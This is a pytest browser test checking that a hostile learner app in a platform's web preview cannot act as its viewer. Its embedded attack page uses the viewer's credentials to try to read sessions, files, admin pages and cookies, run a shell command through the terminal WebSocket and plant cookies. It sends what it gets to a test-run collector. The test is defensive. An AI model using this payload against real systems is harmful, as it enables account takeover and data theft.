"""A hostile learner app in the web preview cannot act as whoever views it (real Chromium, real daphne).

The learner's app (served by the session's endpoint: the local runner reaches it on 127.0.0.1) is a
page whose script tries what an attacker would with the viewer's browser: read the viewer's session
list, session pages and files through the editor's JSON endpoints, open the viewer's terminals and
run a command there, read /admin/auth/user/ as staff, read the platform's cookies and plant its own.
It reports what it got to a collector the test runs.

It runs for every kind of viewer (the owner on the session page, another learner and an anonymous
visitor opening a share link, staff on the session page) in both setups: the default of
`deploy/scripts/run.sh` (previews on http://localhost:<port>, the platform on 127.0.0.1) and no
preview host at all (previews on the platform's origin under `Content-Security-Policy: sandbox`).
Every attack must fail while the app itself still shows.
"""

from __future__ import annotations

import json
import os
import subprocess
import threading
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import expect

from labs.models import Image, Lab
from preview import access, proxy
from preview import actions as preview_actions
from runners import get_runner
from sessions_app import actions
from sessions_app.models import Session, State
from tests.e2e.conftest import ARTIFACTS, sign_in
from tests.e2e.live_server import set_server_password

pytestmark = pytest.mark.browser

RUN_SH = Path(__file__).resolve().parents[2] / "deploy" / "scripts" / "run.sh"
NO_PREVIEW_HOST_ENV = {"LAB_PREVIEW_HOST": ""}
REPORT_TIMEOUT = 90  # seconds: every probe has its own timeout well below this

VIEWERS = ["owner", "learner-with-share-link", "anonymous-with-share-link", "staff"]


# ---- the collector: where the app's script sends what it got -------------------------------------


@dataclass
class Collector:
    url: str
    reports: dict[str, Any] = field(default_factory=dict)
    arrived: threading.Condition = field(default_factory=threading.Condition)

    def wait(self, key: str, timeout: float) -> dict[str, Any]:
        with self.arrived:
            if not self.arrived.wait_for(lambda: key in self.reports, timeout):
                raise AssertionError(f"the app's script never reported (run {key})")
            return self.reports[key]


@pytest.fixture
def collector() -> Iterator[Collector]:
    box: dict[str, Collector] = {}

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, format: str, *args: Any) -> None:
            pass

        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
            key = self.path.rsplit("/", 1)[-1]
            with box["c"].arrived:
                box["c"].reports[key] = json.loads(body)
                box["c"].arrived.notify_all()
            self.send_response(204)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    box["c"] = Collector(url=f"http://127.0.0.1:{server.server_address[1]}/report")
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    yield box["c"]
    server.shutdown()
    server.server_close()


# ---- the learner's hostile app ---------------------------------------------------------------------

ATTACK_PAGE = """<!doctype html>
<meta http-equiv="Content-Security-Policy" content="sandbox allow-same-origin allow-scripts">
<title>Learner app</title><h1>Hello from the learner's app</h1>
<script>
(async () => {
  const C = CONFIG;
  const out = {origin: String(window.origin), href: location.href};
  async function grab(url) {
    try {
      const response = await fetch(url, {credentials: "include"});
      return "status:" + response.status + ":" + (await response.text()).slice(0, 3000);
    } catch (e) { return "error:" + e.name; }
  }
  function terminal(sid) {
    return new Promise((resolve) => {
      let ws, text = "", sent = false;
      const url = C.platform.replace(/^http/, "ws") + "/ws/sessions/" + sid + "/terminal/?name=pwn&cols=80&rows=24";
      try { ws = new WebSocket(url); } catch (e) { resolve("error:" + e.name); return; }
      ws.binaryType = "arraybuffer";
      ws.onmessage = (event) => {
        if (typeof event.data === "string") {
          if (!sent && JSON.parse(event.data).type === "ready") {
            sent = true;
            ws.send(new TextEncoder().encode("echo pwned > /workspace/pwned-" + C.key + "; echo MARK-$((40+2))\\r"));
          }
          return;
        }
        text += new TextDecoder().decode(event.data);
        if (text.includes("MARK-42")) { resolve("ran:" + text.slice(-300)); ws.close(); }
      };
      ws.onclose = (event) => resolve("closed:" + event.code + ":" + text.slice(-300));
      setTimeout(() => resolve("timeout:" + text.slice(-300)), 15000);
    });
  }
  out.parent = "top";
  if (window.parent !== window) {
    try { out.parent = "read:" + window.parent.document.title; } catch (e) { out.parent = "blocked:" + e.name; }
  }
  out.platform = {list: await grab(C.platform + "/sessions/"), admin: await grab(C.platform + "/admin/auth/user/")};
  out.terminals = {};
  for (const sid of C.sessions) {
    out.platform["page " + sid] = await grab(C.platform + "/sessions/" + sid + "/");
    out.platform["files " + sid] = await grab(C.platform + "/sessions/" + sid + "/files/?path=");
    out.platform["secret " + sid] = await grab(C.platform + "/sessions/" + sid + "/files/open/?path=secret.txt");
    out.terminals[sid] = await terminal(sid);
  }
  try { out.cookies = "read:" + document.cookie; } catch (e) { out.cookies = "blocked:" + e.name; }
  try {
    document.cookie = "sessionid=tossed-" + C.key + "; path=/";
    document.cookie = "csrftoken=tossed-" + C.key + "; path=/";
    document.cookie = "tossed=" + C.key + "; path=/; domain=127.0.0.1";
    out.cookieWrite = "set";
  } catch (e) { out.cookieWrite = "blocked:" + e.name; }
  out.own = await grab("own");
  await fetch(C.collector + "/" + C.key, {method: "POST", mode: "no-cors", body: JSON.stringify(out)});
  document.body.append("done");
})();
</script>
"""


@dataclass
class HostileApp:
    port: int
    config: dict[str, Any] = field(default_factory=dict)


@pytest.fixture
def hostile_app() -> Iterator[HostileApp]:
    """The learner's app. Its headers try to undo a sandbox too: a policy of its own that allows
    everything, and the page a meta policy with allow-same-origin."""
    box: dict[str, HostileApp] = {}

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, format: str, *args: Any) -> None:
            pass

        def do_GET(self) -> None:
            app = box["app"]
            if self.path.split("?")[0].endswith("/own"):
                body, kind = json.dumps({"own": app.config["key"]}).encode(), "application/json"
            else:
                body = ATTACK_PAGE.replace("CONFIG", json.dumps(app.config)).encode()
                kind = "text/html; charset=utf-8"
            self.send_response(200)
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(body)))
            self.send_header("Content-Security-Policy", "sandbox allow-same-origin allow-scripts "
                                                        "allow-top-navigation allow-popups-to-escape-sandbox")
            self.send_header("Content-Security-Policy", "default-src * 'unsafe-inline'")
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()
            self.wfile.write(body)

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    box["app"] = HostileApp(port=server.server_address[1])
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    yield box["app"]
    server.shutdown()
    server.server_close()


# ---- the platform --------------------------------------------------------------------------------


@pytest.fixture(params=["run-sh-preview-host", "no-preview-host"])
def setup(request) -> str:
    return request.param


def run_sh_preview_env() -> dict[str, str]:
    """What deploy/scripts/run.sh sets when nothing is configured: its own lines, run by bash."""
    script = RUN_SH.read_text()
    block = script[script.index("# Web previews on an origin of their own"):]
    block = block[: block.index("\nfi\n") + 4]
    env = {k: v for k, v in os.environ.items() if k not in ("LAB_PREVIEW_HOST", "DJANGO_ALLOWED_HOSTS")}
    result = subprocess.run(
        ["bash", "-euc", block + 'printf "%s\\n%s" "$LAB_PREVIEW_HOST" "$DJANGO_ALLOWED_HOSTS"'],
        env={**env, "LAB_PORT": "{port}"}, capture_output=True, text=True, timeout=10, check=True,
    )
    preview_host, allowed_hosts = result.stdout.split("\n")
    return {"LAB_PREVIEW_HOST": preview_host, "DJANGO_ALLOWED_HOSTS": allowed_hosts}


@pytest.fixture
def extra_server_env(setup) -> dict[str, str]:
    return run_sh_preview_env() if setup == "run-sh-preview-host" else NO_PREVIEW_HOST_ENV


@pytest.fixture
def local_root(tmp_path) -> Path:
    return tmp_path / "local-sessions"


@pytest.fixture
def extra_lab_runners(local_root) -> Iterator[dict[str, Any]]:
    """The sandboxed local runner, sharing the host's network so the preview reaches the app on
    127.0.0.1; every session removed afterwards."""
    options = {"root": str(local_root), "share_host_network": True}
    yield {"local": {"BACKEND": "runners.local.LocalRunner", "OPTIONS": options}}
    runner = get_runner("local")
    for env in runner.list_managed():
        runner.remove_managed(env)


def started(user: Any, lab: Lab, key: str) -> Session:
    """A running session with a secret in its workspace."""
    session = actions.start_session(user, lab)
    session.refresh_from_db()
    assert session.state == State.RUNNING, session.error
    get_runner("local").write_file(session.runner_state, "secret.txt", f"secret-of-{user.username}-{key}".encode())
    return session


def platform_cookies(context, host: str) -> dict[str, str]:
    return {c["name"]: c["value"] for c in context.cookies() if c["domain"] == host}


@pytest.mark.parametrize("viewer", VIEWERS)
def test_a_hostile_preview_cannot_act_as_its_viewer(
    setup, viewer, asgi_live_server, chromium, collector, hostile_app, local_root,
    owner, other_learner, staff_user, password,
):
    platform = asgi_live_server.url  # http://127.0.0.1:<port>
    preview_base = f"http://localhost:{asgi_live_server.port}" if setup == "run-sh-preview-host" else platform
    key = uuid.uuid4().hex[:12]
    for user in (owner, other_learner, staff_user):
        set_server_password(user, password)
    image, _ = Image.objects.get_or_create(name="local-shell", defaults={"reference": "local"})
    lab = Lab.objects.create(slug=f"app-{key}", title="Web app lab", image=image, runner="local", published=True,
                             consoles=[], network_mode="bridge", exposed_ports=[hostile_app.port])
    learners_session = started(owner, lab, key)
    share = preview_actions.create_share(learners_session, hostile_app.port, 30, owner)
    share_url = f"{preview_base}{access.share_path(share)}"

    # Who looks, which sessions of theirs the app goes for, and where they look.
    user = {"owner": owner, "learner-with-share-link": other_learner, "staff": staff_user}.get(viewer)
    targets = [learners_session]
    if user is not None and user != owner:
        targets.insert(0, started(user, lab, key))
    hostile_app.config.update(key=key, platform=platform, collector=collector.url,
                              sessions=[str(s.pk) for s in targets])

    context = chromium.new_context(viewport={"width": 1280, "height": 900})
    try:
        page = context.new_page()
        if user is not None:
            sign_in(page, platform, user.username, password)
        before = platform_cookies(context, "127.0.0.1")
        if viewer in ("owner", "staff"):
            page.goto(f"{platform}{learners_session.get_absolute_url()}")
            app = page.frame_locator("[data-preview-frame]")
        else:
            page.goto(share_url)
            app = page
        expect(app.get_by_role("heading", name="Hello from the learner's app")).to_be_visible(timeout=30_000)
        if viewer in ("owner", "staff"):
            # The session page sandboxes its frame too; the app's own origin only on a preview host.
            tokens = [*proxy.SANDBOX_TOKENS] + (["allow-same-origin"] if setup == "run-sh-preview-host" else [])
            expect(page.locator("[data-preview-frame]")).to_have_attribute("sandbox", " ".join(tokens))
        report = collector.wait(key, REPORT_TIMEOUT)
        ARTIFACTS.mkdir(exist_ok=True)
        page.screenshot(path=str(ARTIFACTS / f"preview-isolation-{setup}-{viewer}.png"), full_page=True)
        (ARTIFACTS / f"preview-isolation-{setup}-{viewer}.json").write_text(json.dumps(report, indent=1))
        after = platform_cookies(context, "127.0.0.1")
    finally:
        context.close()

    # Nothing of the platform could be read with the viewer's credentials: every request failed (CORS).
    for probe, answer in report["platform"].items():
        assert answer.startswith("error:"), (probe, answer[:400])
    # No terminal of the viewer's opened a shell, and no command ran in any of their sessions.
    for sid, outcome in report["terminals"].items():
        assert not outcome.startswith("ran:"), (sid, outcome)
        assert not (local_root / sid / "workspace" / f"pwned-{key}").exists()
    # The page around the frame stays out of reach.
    assert not report["parent"].startswith("read:"), report["parent"]
    # The platform's cookies can be neither read nor replaced.
    text = json.dumps(report)
    for name, value in before.items():
        assert value not in text, f"the app read the platform's {name} cookie"
    planted = {name: value for name, value in after.items() if name != access.SHARE_COOKIE}  # ours, on first use
    assert planted == before, (before, after)
    assert "secret-of-" not in text and "MARK-42" not in text

    # Meanwhile the app itself works.
    if setup == "run-sh-preview-host":
        assert report["origin"] == preview_base
        assert report["own"] == "status:200:" + json.dumps({"own": key}), report["own"][:300]
    else:
        # No preview host: the app's script runs with an opaque origin.
        assert report["origin"] == "null"
        assert report["cookies"].startswith("blocked:") and report["cookieWrite"].startswith("blocked:")
